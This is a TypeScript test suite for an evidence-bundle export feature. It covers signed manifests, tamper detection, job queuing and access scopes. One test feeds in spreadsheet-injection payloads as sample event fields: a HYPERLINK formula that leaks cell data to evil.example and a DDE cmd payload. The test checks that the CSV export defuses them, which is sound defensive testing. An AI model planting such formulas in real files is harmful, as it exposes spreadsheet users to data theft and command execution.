import { execFileSync, spawnSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { parse } from "csv-parse/sync";

import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { isPostgresAvailable, useTestDatabase, type TestDatabase } from "@/lib/testing/test-db";
import { readZip as unzip, writeZip } from "@/lib/testing/read-zip";
import { db } from "@/lib/db/client";
import { seedDemo } from "@/prisma/seed";
import type { Actor } from "@/lib/authz/policy";
import { openCampaign } from "@/lib/reviews/open-campaign";
import { reportIncident } from "@/lib/incidents/report-incident";
import { startChecklist } from "@/lib/acquisitions/start-checklist";
import { ingestAuthEvents } from "@/lib/events/ingest-events";
import { exportEvidenceBundle } from "@/lib/evidence/export-bundle";
import { verifyBundle as verifyWith } from "@/lib/evidence/verify-bundle";
import { signingKey } from "@/lib/signing/key";
import {
  LAPSE_SECONDS,
  MAX_ATTEMPTS,
  requestEvidenceExport,
  requeueLapsedExports,
  startExportBuilder,
} from "@/lib/evidence/export-jobs";
import { blobStore } from "@/lib/storage/blob-store";
import { getEvidenceExport } from "@/lib/evidence/queries";
import { authorizedWrite } from "@/lib/audit/authorized-write";
import { extractText, getDocumentProxy } from "unpdf";
import { personActor } from "@/lib/testing/actors";

const csvRows = (bytes: Buffer) => parse(bytes, { columns: true }) as Record<string, string>[];
const jsonRows = (bytes: Buffer) => JSON.parse(bytes.toString("utf8")) as Record<string, unknown>[];
/** Verified as an auditor who trusts this installation's key (fingerprint from the Evidence page). */
const verifyBundle = (file: string) => verifyWith(file, { fingerprint: signingKey().fingerprint });
const run = (cmd: string, args: string[], cwd: string) => spawnSync(cmd, args, { cwd, encoding: "utf8" });

for (const provider of ["sqlite", "postgres"] as const) {
  describe.runIf(provider === "sqlite" || (await isPostgresAvailable()))(`evidence bundles on ${provider}`, () => {
    let database: TestDatabase;
    let dir: string;
    let auditor: Actor, owner: Actor, admin: Actor;
    let sentAt: number[] = [];
    const now = new Date();
    const year = String(now.getUTCFullYear());
    const exportTo = async (actor: Actor, scope: unknown, name: string, at = now) => {
      const file = path.join(dir, name);
      const result = await exportEvidenceBundle({ actor }, scope, fs.createWriteStream(file), { now: at });
      return { file, result };
    };

    beforeAll(async () => {
      database = await useTestDatabase(provider);
      dir = fs.mkdtempSync(path.join(os.tmpdir(), "apiledger-evidence-"));
      process.env.APILEDGER_DATA_DIR = dir;
      // On PostgreSQL the bundles go to the database's own blob store, as in a cluster without S3.
      process.env.APILEDGER_BLOB_STORE = provider === "postgres" ? "postgres" : "local";
      await seedDemo();
      auditor = await personActor("auditor@example.com");
      owner = await personActor("owner@example.com");
      admin = await personActor("admin@example.com");
      const quarter = `${year}-Q${Math.floor(now.getUTCMonth() / 3) + 1}`;
      await openCampaign({ actor: admin }, { quarter, extraApiIds: [] });
      const api = await db.api.findFirstOrThrow({ where: { deletedAt: null }, orderBy: { name: "asc" } });
      // 15 failures from one client within five minutes: over the default threshold, so an alert is raised.
      const events = Array.from({ length: 30 }, (_, i) => ({
        time: new Date(now.getTime() - 60_000 - i * 10_000).toISOString(),
        api: api.id,
        clientId: "ledger-sync",
        outcome: i % 2 ? "success" : "authn_failure",
        sourceIp: "10.0.0.9",
        method: "GET",
        route: "/v1/things",
      }));
      sentAt = [Date.now()];
      await ingestAuthEvents({ actor: admin }, events);
      sentAt.push(Date.now());
      const minute = (ago: number) => new Date(now.getTime() - ago * 60_000).toISOString().slice(0, 16);
      await reportIncident(
        { actor: owner },
        {
          title: "Leaked key used from an unknown address",
          type: "CREDENTIAL_COMPROMISE",
          severity: "HIGH",
          detectedAt: minute(30),
          reportedAt: minute(20),
          reportedBy: "SOC analyst",
          description: "The key was used from outside the network.",
          apiIds: [api.id],
          affectedClients: "ledger-sync",
          rootCause: "",
          lessonsLearned: "",
        },
      );
      const manager = await personActor("manager@example.com");
      await startChecklist(
        { actor: owner },
        {
          vendor: "Acme",
          product: "Gateway Pro",
          description: "API gateway.",
          requestedOn: now.toISOString().slice(0, 10),
          reviewerId: manager.id!,
        },
      );
    });
    afterAll(async () => {
      delete process.env.APILEDGER_DATA_DIR;
      delete process.env.APILEDGER_BLOB_STORE;
      await database?.drop();
    });

    it("holds each section as CSV and JSON with the same rows as the database, and verifies", async () => {
      const { file, result } = await exportTo(auditor, { period: year }, "year.zip");
      const files = await unzip(file);
      const from = new Date(`${year}-01-01T00:00:00Z`);
      const to = new Date(`${Number(year) + 1}-01-01T00:00:00Z`);
      const inventory = csvRows(files.get("data/inventory.csv")!);
      const apis = await db.api.findMany({ where: { createdAt: { lt: to }, deletedAt: null }, select: { id: true } });
      expect(inventory.map((r) => r.id).sort()).toEqual(apis.map((a) => a.id).sort());
      expect(jsonRows(files.get("data/inventory.json")!).map((r) => r.id)).toEqual(inventory.map((r) => r.id));
      expect(csvRows(files.get("data/clients.csv")!)).toHaveLength(
        await db.apiClient.count({ where: { api: { deletedAt: null } } }),
      );
      expect(csvRows(files.get("data/control-evaluations.csv")!)).toHaveLength(apis.length * 6);
      expect(csvRows(files.get("data/access-reviews.csv")!)).toHaveLength(await db.review.count());
      const events = csvRows(files.get("data/auth-events.csv")!);
      const stored = await db.authEvent.findMany({ orderBy: { id: "asc" } });
      expect(events.map((r) => [r.eventId, r.at, r.apiId, r.outcome, r.sourceIp])).toEqual(
        stored.map((e) => [e.id, e.at.toISOString(), e.apiId, e.outcome, e.sourceIp]),
      );
      expect(jsonRows(files.get("data/auth-events.json")!)).toEqual(events.map((r) => ({ ...r })));
      // One batch: every event carries the time it was received, taken while the ingest call ran.
      const received = new Set(events.map((r) => r.receivedAt));
      expect(received.size).toBe(1);
      const receivedAt = Date.parse([...received][0]!);
      expect(receivedAt).toBeGreaterThanOrEqual(sentAt[0]!);
      expect(receivedAt).toBeLessThanOrEqual(sentAt[1]!);
      const audit = csvRows(files.get("data/audit-log.csv")!);
      const entries = await db.auditEntry.findMany({
        where: { at: { gte: from, lt: to }, action: { notIn: ["evidence.export", "audit.checkpoint"] } },
        orderBy: { seq: "asc" },
      });
      expect(audit.map((r) => r.hash)).toEqual(entries.map((e) => e.hash));
      expect(csvRows(files.get("data/incidents.csv")!).map((r) => r.title)).toEqual([
        "Leaked key used from an unknown address",
      ]);
      expect(csvRows(files.get("data/incident-timeline.csv")!)).toHaveLength(await db.incidentEntry.count());
      expect(csvRows(files.get("data/auth-alerts.csv")!).map((r) => [r.keyKind, r.keyValue])).toEqual(
        (await db.authAlert.findMany({ orderBy: [{ raisedAt: "asc" }, { id: "asc" }] })).map((a) => [
          a.keyKind,
          a.keyValue,
        ]),
      );
      expect(csvRows(files.get("data/auth-alerts.csv")!).length).toBeGreaterThan(0);
      expect(csvRows(files.get("data/training.csv")!)).toHaveLength(
        await db.trainingAttendance.count({ where: { session: { heldOn: { gte: from, lt: to } } } }),
      );
      const answers = csvRows(files.get("data/acquisitions.csv")!);
      expect(answers.map((r) => r.question)).toEqual(
        (await db.acquisitionAnswer.findMany({ orderBy: { position: "asc" } })).map((a) => a.questionText),
      );
      // Approved policy files are in the bundle, byte for byte.
      const documents = csvRows(files.get("data/documents.csv")!);
      expect(documents.length).toBeGreaterThan(0);
      for (const d of documents) {
        expect(files.has(d.file!), d.file).toBe(true);
        if (d.sha256)
          expect(files.get(d.file!)!.length).toBe(
            (await db.storedFile.findUniqueOrThrow({ where: { sha256: d.sha256 } })).size,
          );
      }
      const manifest = JSON.parse(files.get("manifest.json")!.toString("utf8"));
      expect(manifest).toMatchObject({
        format: "apiledger-evidence-bundle/1",
        exportedBy: "auditor@example.com",
        scope: { period: year, controls: expect.arrayContaining(["ism-2013"]) },
      });
      expect(manifest.auditLog.lastEntryHash).toBe(entries.at(-1)!.hash);
      const oscal = JSON.parse(files.get("oscal/assessment-results.json")!.toString("utf8"));
      expect(oscal["assessment-results"].metadata["oscal-version"]).toBe("1.1.2");
      expect(
        oscal["assessment-results"].results[0].findings.map(
          (f: { target: { "target-id": string } }) => f.target["target-id"],
        ),
      ).toContain("ism-2013_smt");
      expect(
        JSON.parse(files.get("oscal/poam.json")!.toString("utf8"))["plan-of-action-and-milestones"]["poam-items"]
          .length,
      ).toBeGreaterThan(0);
      // report.pdf read as an auditor's PDF reader reads it: a gap longer than the list says where the rest are.
      const report = await getDocumentProxy(new Uint8Array(files.get("report.pdf")!));
      const reportText = (await extractText(report, { mergePages: true })).text.replace(/\s+/g, " ");
      const unreviewed = Number(/(\d+) in-scope API\(s\) have no signed-off access review/.exec(reportText)?.[1]);
      expect(unreviewed).toBeGreaterThan(25);
      expect(reportText).toContain(
        `… and ${unreviewed - 25} more: every one is in data/access-reviews.csv and data/inventory.csv`,
      );
      expect(files.get("index.html")!.toString()).not.toMatch(/<script|https?:\/\/|src=/i);
      // The export is on record: who, and the manifest's hash.
      const custody = await db.auditEntry.findFirstOrThrow({
        where: { action: "evidence.export" },
        orderBy: { seq: "desc" },
      });
      expect([custody.actorEmail, custody.targetId]).toEqual(["auditor@example.com", result.manifestSha256]);
      expect(await verifyBundle(file)).toMatchObject({ ok: true, problems: [] });
    });

    it("checks out with sha256sum and openssl, and fails them when a data file or the manifest changes", async () => {
      const { file } = await exportTo(auditor, { period: year }, "tools.zip");
      const folder = fs.mkdtempSync(path.join(dir, "unzipped-"));
      for (const [name, bytes] of await unzip(file)) {
        fs.mkdirSync(path.dirname(path.join(folder, name)), { recursive: true });
        fs.writeFileSync(path.join(folder, name), bytes);
      }
      const verifySig = (name: string) =>
        run(
          "openssl",
          [
            "pkeyutl",
            "-verify",
            "-pubin",
            "-inkey",
            "public-key.pem",
            "-rawin",
            "-in",
            name,
            "-sigfile",
            `${name}.sig`,
          ],
          folder,
        );
      expect(run("sha256sum", ["-c", "--quiet", "SHA256SUMS"], folder).status).toBe(0);
      expect(verifySig("SHA256SUMS").stdout).toMatch(/Signature Verified Successfully/);
      expect(verifySig("manifest.json").stdout).toMatch(/Signature Verified Successfully/);
      // The audit-log checkpoint, as VERIFY.md tells the auditor to check it.
      expect(
        run(
          "openssl",
          [
            "pkeyutl",
            "-verify",
            "-pubin",
            "-inkey",
            "public-key.pem",
            "-rawin",
            "-in",
            "audit-checkpoint.txt",
            "-sigfile",
            "audit-checkpoint.sig",
          ],
          folder,
        ).stdout,
      ).toMatch(/Signature Verified Successfully/);
      const fingerprint = execFileSync(
        "sh",
        ["-c", "openssl pkey -pubin -in public-key.pem -outform DER | sha256sum"],
        { cwd: folder, encoding: "utf8" },
      ).split(" ")[0];
      expect(fs.readFileSync(path.join(folder, "VERIFY.md"), "utf8")).toContain(fingerprint);

      const flip = (name: string) => {
        const bytes = fs.readFileSync(path.join(folder, name));
        const at = Math.floor(bytes.length / 2);
        bytes[at] = bytes[at]! ^ 0x01;
        fs.writeFileSync(path.join(folder, name), bytes);
      };
      flip("data/inventory.csv");
      const check = run("sha256sum", ["-c", "--quiet", "SHA256SUMS"], folder);
      expect(check.status).not.toBe(0);
      expect(check.stdout).toMatch(/data\/inventory\.csv: FAILED/);
      flip("manifest.json");
      expect(verifySig("manifest.json").status).not.toBe(0);

      // The same changes inside a ZIP: evidence:verify's checks name them.
      const files = await unzip(file);
      const changed = Buffer.from(files.get("data/inventory.csv")!);
      changed[10] = changed[10]! ^ 0x01;
      await writeZip(new Map([...files, ["data/inventory.csv", changed]]), path.join(dir, "tampered.zip"));
      const report = await verifyBundle(path.join(dir, "tampered.zip"));
      expect(report.ok).toBe(false);
      expect(report.problems.join("\n")).toMatch(/data\/inventory\.csv does not match the manifest/);
      const manifest = Buffer.from(
        files
          .get("manifest.json")!
          .toString("utf8")
          .replace('"exportedBy": "auditor@example.com"', '"exportedBy": "someone@example.com"'),
      );
      await writeZip(new Map([...files, ["manifest.json", manifest]]), path.join(dir, "forged.zip"));
      expect((await verifyBundle(path.join(dir, "forged.zip"))).problems.join("\n")).toMatch(
        /signature on manifest\.json does not verify/,
      );
    });

    it("exported twice with nothing changed, differs only in the fresh audit checkpoint and the manifest that signs it", async () => {
      const at = new Date(now.getTime() + 1000);
      const first = await exportTo(auditor, { period: year, controls: ["ism-2013", "ism-2015"] }, "a.zip", at);
      const second = await exportTo(auditor, { period: year, controls: ["ism-2013", "ism-2015"] }, "b.zip", at);
      // Exported later the same day by someone else: the same. (A bundle states the day it is as
      // of, so "later" stays before midnight UTC, which a run late in the day would cross.)
      const endOfDay = Date.UTC(at.getUTCFullYear(), at.getUTCMonth(), at.getUTCDate() + 1) - 1;
      const later = await exportTo(
        admin,
        { period: year, controls: ["ism-2013", "ism-2015"] },
        "c.zip",
        new Date(Math.min(at.getTime() + 3_600_000, endOfDay)),
      );
      const [a, b, c] = [await unzip(first.file), await unzip(second.file), await unzip(later.file)];
      const sealing = [
        "audit-checkpoint.txt",
        "audit-checkpoint.sig",
        "manifest.json",
        "manifest.json.sig",
        "SHA256SUMS",
        "SHA256SUMS.sig",
      ];
      for (const other of [b, c]) {
        expect([...a.keys()]).toEqual([...other.keys()]);
        expect([...a.keys()].filter((name) => !a.get(name)!.equals(other.get(name)!))).toEqual(sealing);
      }
      // Each checkpoint covers the log as it was sealed: the later one covers more entries.
      const checkpoint = (files: Map<string, Buffer>) =>
        JSON.parse(files.get("manifest.json")!.toString("utf8")).auditCheckpoint;
      expect(checkpoint(b).seq).toBeGreaterThan(checkpoint(a).seq);
      expect(checkpoint(a).text).toBe(a.get("audit-checkpoint.txt")!.toString("utf8"));
      const manifest = (files: Map<string, Buffer>) => ({
        ...JSON.parse(files.get("manifest.json")!.toString("utf8")),
        auditCheckpoint: null,
        files: null,
      });
      expect(manifest(a)).toEqual(manifest(b));
    });

    it("works for an auditor's API token that has only the evidence scope", async () => {
      const token: Actor = {
        ...(auditor as Extract<Actor, { kind: "user" }>),
        token: { id: "t", scopes: ["evidence:read"], teamId: null },
      };
      const { file } = await exportTo(token, { period: year }, "token.zip");
      expect((await verifyBundle(file)).ok).toBe(true);
      const limited: Actor = {
        ...(admin as Extract<Actor, { kind: "user" }>),
        token: { id: "t", scopes: ["evidence:read"], teamId: "some-team" },
      };
      await expect(exportTo(limited, { period: year }, "limited.zip")).rejects.toMatchObject({ code: "FORBIDDEN" });
    });

    it("limited to teams, holds only their APIs' records", async () => {
      const api = await db.api.findFirstOrThrow({ where: { deletedAt: null }, orderBy: { name: "asc" } });
      const other = await db.team.findFirstOrThrow({ where: { id: { not: api.teamId } } });
      const mine = await unzip((await exportTo(auditor, { period: year, teamIds: [api.teamId] }, "team.zip")).file);
      const theirs = await unzip((await exportTo(auditor, { period: year, teamIds: [other.id] }, "other.zip")).file);
      expect(csvRows(mine.get("data/auth-events.csv")!)).toHaveLength(30);
      expect(csvRows(theirs.get("data/auth-events.csv")!)).toHaveLength(0);
      const teamApis = await db.api.count({ where: { teamId: api.teamId, deletedAt: null } });
      expect(csvRows(mine.get("data/inventory.csv")!).map((r) => r.team)).toEqual(
        Array(teamApis).fill((await db.team.findUniqueOrThrow({ where: { id: api.teamId } })).name),
      );
    });

    it("builds queued exports in whichever process claims them, keeps the bundle in the shared store, shows another process's progress and queues again exports whose process stopped", async () => {
      const waitForEnd = async (id: string) => {
        let job = await getEvidenceExport(auditor, id);
        for (let i = 0; job.status === "RUNNING" && i < 600; i++) {
          await new Promise((r) => setTimeout(r, 50));
          job = await getEvidenceExport(auditor, id);
        }
        return job;
      };
      /** The bundle as any instance serves it: from the blob store, by the row's SHA-256. */
      const stored = async (sha256: string, name: string) => {
        const file = path.join(dir, name);
        const stream = await blobStore().open(sha256);
        await new Promise<void>((resolve, reject) =>
          stream.pipe(fs.createWriteStream(file)).on("finish", resolve).on("error", reject),
        );
        return file;
      };
      // Queued, then nothing happens until a process that runs a builder claims it.
      const { id } = await requestEvidenceExport({ actor: auditor }, { period: year, controls: ["ism-2015"] });
      expect(await db.evidenceExport.findUniqueOrThrow({ where: { id } })).toMatchObject({ runner: "", attempts: 0 });
      const builder = startExportBuilder(() => {});
      let job = await waitForEnd(id);
      expect(job).toMatchObject({ status: "DONE", period: year, requestedBy: "auditor@example.com", error: null });
      const row = await db.evidenceExport.findUniqueOrThrow({ where: { id } });
      expect(row).toMatchObject({ attempts: 1, runner: expect.stringContaining(`:${process.pid}:`) });
      const bundle = await stored(row.sha256, "queued.zip");
      expect(fs.statSync(bundle).size).toBe(job.bytes);
      expect((await verifyBundle(bundle)).ok).toBe(true);
      // No bundle file of its own is left in the data folder: the store has the one copy (on PostgreSQL,
      // in the database: the data folder holds no files at all).
      expect(fs.existsSync(path.join(dir, "evidence")) ? fs.readdirSync(path.join(dir, "evidence")) : []).toEqual([]);
      expect(fs.existsSync(path.join(dir, "files"))).toBe(provider === "sqlite");
      const trail = await db.auditEntry.findMany({
        where: { action: { startsWith: "evidence." } },
        orderBy: { seq: "desc" },
        take: 3,
        select: { action: true },
      });
      expect(trail.map((e) => e.action).reverse()).toEqual([
        "evidence.export-requested",
        "evidence.export",
        "evidence.export-stored",
      ]);
      await expect(getEvidenceExport(owner, id)).rejects.toMatchObject({ code: "FORBIDDEN" });
      // Stopped while it builds one of two queued exports: it finishes that one and claims nothing more.
      const [one, two] = [
        await requestEvidenceExport({ actor: auditor }, { period: year, controls: ["ism-2015"] }),
        await requestEvidenceExport({ actor: admin }, { period: year, controls: ["ism-2015"] }),
      ];
      for (let i = 0; i < 400; i++) {
        const row = await db.evidenceExport.findUniqueOrThrow({ where: { id: one.id } });
        if (row.runner) break;
        await new Promise((r) => setTimeout(r, 10));
      }
      await builder.stop();
      expect((await getEvidenceExport(auditor, one.id)).status).toBe("DONE");
      expect(await db.evidenceExport.findUniqueOrThrow({ where: { id: two.id } })).toMatchObject({
        status: "QUEUED",
        runner: "",
        attempts: 0,
      });
      // Left unclaimed (nothing builds exports), it is failed in words half an hour on, freeing the limit.
      expect(await requeueLapsedExports(new Date(Date.now() + 31 * 60_000))).toEqual({ requeued: 0, failed: 1 });
      expect(await getEvidenceExport(admin, two.id)).toMatchObject({
        status: "FAILED",
        error: expect.stringMatching(/No process took the export within 30 minutes/),
      });

      // Three exports other processes claimed: one still builds (its heartbeat is fresh, its progress
      // recorded), one's process stopped a while ago, and one's process stopped on its last try.
      const system = { kind: "system" as const, id: null, email: "test@apiledger" };
      const claimed = (runner: string, heartbeatAt: Date, attempts: number) =>
        authorizedWrite({ actor: system }, { permission: "evidence:export" }, async (tx, audit) => {
          const created = await tx.evidenceExport.create({
            data: {
              requestedById: auditor.id,
              requestedBy: "auditor@example.com",
              scope: JSON.stringify({ period: year, controls: ["ism-2015"], teamIds: [], apiIds: [] }),
              period: year,
              runner,
              heartbeatAt,
              attempts,
              progress: JSON.stringify({ step: "Writing auth-events.csv", done: 3, total: 4 }),
            },
          });
          await audit({ action: "evidence.export-requested", targetType: "evidence-export", targetId: created.id });
          return created;
        });
      const long = new Date(Date.now() - 2 * LAPSE_SECONDS * 1000);
      const building = await claimed("other-host:41:aa", new Date(), 1);
      const stopped = await claimed("gone-host:42:bb", long, 1);
      const lastTry = await claimed("gone-host:43:cc", long, MAX_ATTEMPTS);
      // Any instance shows the other's progress, read from the row.
      expect(await getEvidenceExport(auditor, building.id)).toMatchObject({
        status: "RUNNING",
        progress: { step: "Writing auth-events.csv", percent: 75 },
      });
      expect(await requeueLapsedExports()).toEqual({ requeued: 1, failed: 1 });
      expect(await getEvidenceExport(auditor, stopped.id)).toMatchObject({
        status: "RUNNING",
        progress: { step: expect.stringMatching(/again \(attempt 2 of 3\)/), percent: 0 },
      });
      const requeued = await db.auditEntry.findFirstOrThrow({
        where: { action: "evidence.export-requeued", targetId: stopped.id },
      });
      expect(requeued.summary).toContain("gone-host:42:bb");
      expect(await getEvidenceExport(auditor, lastTry.id)).toMatchObject({
        status: "FAILED",
        progress: null,
        error: expect.stringMatching(/stopped 3 times/),
      });
      // Noticed a second time (another process), nothing more is recorded.
      expect(await requeueLapsedExports()).toEqual({ requeued: 0, failed: 0 });
      // The one still building is left alone.
      expect(await getEvidenceExport(auditor, building.id)).toMatchObject({ status: "RUNNING" });
      // The next process with a builder claims the queued one and finishes it.
      const next = startExportBuilder(() => {});
      job = await waitForEnd(stopped.id);
      await next.stop();
      expect(job).toMatchObject({ status: "DONE", error: null });
      const again = await db.evidenceExport.findUniqueOrThrow({ where: { id: stopped.id } });
      expect(again.attempts).toBe(2);
      expect((await verifyBundle(await stored(again.sha256, "requeued.zip"))).ok).toBe(true);
      await expect(requestEvidenceExport({ actor: owner }, { period: year })).rejects.toMatchObject({
        code: "FORBIDDEN",
      });
    });

    it("defuses formulas that a gateway put in event fields in auth-events.csv, and the JSON twin keeps the original", async () => {
      const api = await db.api.findFirstOrThrow({ where: { deletedAt: null }, orderBy: { name: "asc" } });
      const hostile = [
        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=cmd|' /C calc'!A0",
      ];
      const at = new Date(now.getTime() - 30_000).toISOString();
      await ingestAuthEvents(
        { actor: admin },
        hostile.map((h) => ({
          time: at,
          api: api.id,
          clientId: h,
          principal: h,
          outcome: "success",
          method: "GET",
          route: h,
        })),
      );
      const files = await unzip((await exportTo(auditor, { period: year, apiIds: [api.id] }, "formulas.zip")).file);
      const csv = csvRows(files.get("data/auth-events.csv")!).filter((r) => r.clientId !== "ledger-sync");
      const json = jsonRows(files.get("data/auth-events.json")!).filter((r) => r.clientId !== "ledger-sync");
      expect(csv.map((r) => r.principal).sort()).toEqual(hostile.map((h) => `'${h}`).sort());
      for (const r of csv) expect([r.clientId, r.route]).toEqual([r.principal, r.principal]);
      expect(json.map((r) => r.principal).sort()).toEqual([...hostile].sort());
      for (const r of json) expect([r.clientId, r.route]).toEqual([r.principal, r.principal]);
    });

    it("still gives a valid bundle that says so when nothing is in scope", async () => {
      const { file } = await exportTo(auditor, { period: "2001" }, "empty.zip");
      const files = await unzip(file);
      expect(csvRows(files.get("data/inventory.csv")!)).toEqual([]);
      expect(jsonRows(files.get("data/inventory.json")!)).toEqual([]);
      expect(files.get("index.html")!.toString()).toMatch(/No APIs were in scope at the end of this period/);
      expect((await verifyBundle(file)).ok).toBe(true);
    });

    it("refuses bad scopes and system owners, writing nothing", async () => {
      const before = await db.auditEntry.count();
      await expect(exportTo(auditor, { period: "2026-12-31..2026-10-01" }, "bad.zip")).rejects.toMatchObject({
        code: "VALIDATION",
        fieldErrors: { period: [expect.stringMatching(/ends .* before it starts/)] },
      });
      await expect(exportTo(auditor, { period: year, controls: ["ism-9999"] }, "bad.zip")).rejects.toMatchObject({
        code: "VALIDATION",
        fieldErrors: { controls: [expect.stringMatching(/Unknown control: ism-9999/)] },
      });
      await expect(exportTo(auditor, { period: year, teamIds: ["no-such-team"] }, "bad.zip")).rejects.toMatchObject({
        code: "VALIDATION",
      });
      await expect(exportTo(owner, { period: year }, "owner.zip")).rejects.toMatchObject({ code: "FORBIDDEN" });
      expect(await db.auditEntry.count()).toBe(before);
    });
  });
}
